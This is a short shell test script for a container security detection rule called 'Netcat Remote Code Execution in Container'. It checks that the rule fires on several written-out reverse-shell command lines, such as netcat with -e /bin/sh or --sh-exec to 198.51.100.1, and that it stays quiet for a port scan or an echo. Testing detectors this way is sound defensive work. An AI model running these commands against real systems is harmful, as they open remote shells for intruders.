#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# netcat runs a program in a container.
. "$(dirname "$0")/../lib.sh"

need_root
container=1

own="netcat that runs a program in a container"
official="Netcat Remote Code Execution in Container"
cp "$src/spawn" "$dir/nc" # what counts is the command line
cp "$src/spawn" "$dir/ncat"
fires "$own" "$official" -- "$dir/nc" -e /bin/sh 198.51.100.1 443
fires "$own" "$official" -- sh -c "$dir/nc 198.51.100.1 443 -c /bin/sh; true"
fires "$own" "$official" -- "$dir/ncat" --sh-exec id 198.51.100.1 443
fires "$own" "$official" -- "$src/calls" exec "$dir/nc" harmless -e /bin/sh # with another argument zero
quiet "$own" "$official" -- "$dir/nc" -z 198.51.100.1 443
quiet "$own" "$official" -- echo nc -e /bin/sh
container=
quiet "$own" "$official" -- "$dir/nc" -e /bin/sh 198.51.100.1 443

finish
